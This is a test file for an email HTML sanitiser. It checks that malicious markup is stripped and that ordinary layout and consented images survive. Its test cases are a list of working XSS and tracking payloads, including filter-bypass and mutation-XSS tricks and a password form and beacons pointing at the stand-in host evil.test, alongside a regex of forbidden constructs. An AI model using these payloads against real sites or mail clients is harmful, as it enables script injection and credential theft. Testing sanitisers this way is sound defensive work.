import createDOMPurify from "dompurify";
import { JSDOM } from "jsdom";
import { describe, expect, test } from "vitest";
import { sanitiseMail } from "../../../src/web/mail/sanitise.ts";

const { window } = new JSDOM("");
const inline = new Map([["logo@x", "data:image/png;base64,AAAA"]]);

function sanitised(html: string, showsImages = false) {
  return sanitiseMail(createDOMPurify(window), html, { showsImages, inline });
}

/** What would run, ask or fetch: no mail may come out with any of it. */
const harmful =
  /<(?:script|svg|math|iframe|object|embed|form|input|base|meta|link|style|video|audio|template)|\son\w+\s*=|javascript:|vbscript:|data:text|url\s*\(|srcset|evil\.test\/(?:x|beacon)/i;

describe("I13 HTML that would do harm", () => {
  test.each([
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/beacon'>",
    "<img srcset='https://evil.test/beacon 2x' src='data:image/png;base64,AA'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  jAvAsCrIpT&#x3a;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.test/x'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.test/x'></object><embed src='https://evil.test/x'>",
    "<form action='https://evil.test/x'><input name=password><button>Go</button></form>",
    "<base href='https://evil.test/x/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.test/x'>",
    "<link rel=stylesheet href='https://evil.test/x'>",
    "<style>@import 'https://evil.test/x';</style>",
    "<div style=\"background:url('https://evil.test/beacon')\">x</div>",
    "<div style='background:u\\72l(https://evil.test/beacon)'>x</div>",
    "<div style='background:u/**/rl(https://evil.test/beacon)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<table background='https://evil.test/beacon'><tr><td background='https://evil.test/beacon'>x</table>",
    "<video poster='https://evil.test/beacon'><source src='https://evil.test/x'></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p id=cookie name=getElementById onclick=alert(1)>x</p>",
    "<body onload=alert(1)>x</body>",
    "<input autofocus onfocus=alert(1)>",
    "<x-y is='z' onclick=alert(1)>x</x-y>",
  ])("%s", (html) => {
    for (const showsImages of [false, true]) {
      const { html: clean } = sanitised(html, showsImages);
      const rest = showsImages ? clean.replaceAll("https://evil.test/beacon", "") : clean;
      expect(rest).not.toMatch(harmful);
    }
  });

  test("nothing of it lies over the page or names its parts", () => {
    const { html } = sanitised("<div id=root name=x class=y style='position:fixed;color:red'>x</div>");
    expect(html).toBe('<div style="color:red">x</div>');
  });
});

describe("E2 HTML as it was laid out", () => {
  test("words, tables and colours stay", () => {
    const mail = '<table border="1" cellpadding="6"><tbody><tr><td style="color: red">6 kg</td></tr></tbody></table>';
    expect(sanitised(mail).html).toBe(mail);
  });

  test("links open beside the page, without a way back", () => {
    expect(sanitised('<a href="https://x.test/">x</a>').html).toBe(
      '<a href="https://x.test/" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(sanitised('<a href="#top">x</a><a href="/api/auth">y</a>').html).toBe("<a>x</a><a>y</a>");
  });

  test("pictures of other sites wait to be asked for, and are counted", () => {
    const mail = '<img src="https://x.test/a.png"><img src="http://x.test/b.png" alt="b">';
    expect(sanitised(mail)).toEqual({ html: '<img alt=""><img alt="b">', hiddenImages: 2 });
    const shown = sanitised(mail, true);
    expect(shown.hiddenImages).toBe(0);
    expect(shown.html).toContain('src="https://x.test/a.png"');
  });

  test("a picture without a scheme is another site's, or none", () => {
    expect(sanitised('<img src="//x.test/a.png"><img src="a.png">', true)).toEqual({
      html: '<img alt=""><img alt="">',
      hiddenImages: 1,
    });
  });

  test("the mail's own pictures are there at once; unknown ones are not fetched from anywhere", () => {
    expect(sanitised('<img src="cid:logo@x"><img src="cid:logo%40x"><img src="cid:other">')).toEqual({
      html: '<img src="data:image/png;base64,AAAA" alt=""><img src="data:image/png;base64,AAAA" alt=""><img alt="">',
      hiddenImages: 0,
    });
  });

  test("a picture in the text itself is of a kind that holds no markup", () => {
    const drawing = "data:image/svg+xml;base64,PHN2Zy8+";
    for (const source of [drawing, drawing.toUpperCase(), "data:image/svg+xml,%3Csvg/%3E", "data:,x", "cid:drawn"]) {
      const drawn = new Map([["drawn", drawing]]);
      const { html } = sanitiseMail(createDOMPurify(window), `<img src="${source}">`, {
        showsImages: true,
        inline: drawn,
      });
      expect([source, html]).toEqual([source, '<img alt="">']);
    }
    expect(sanitised('<img src="data:image/gif;base64,AA">').html).toContain("data:image/gif");
  });

  test("one call leaves nothing to the next", () => {
    const purify = createDOMPurify(window);
    const image = '<img src="https://x.test/a.png">';
    sanitiseMail(purify, image, { showsImages: true, inline });
    expect(sanitiseMail(purify, image, { showsImages: false, inline }).hiddenImages).toBe(1);
  });
});
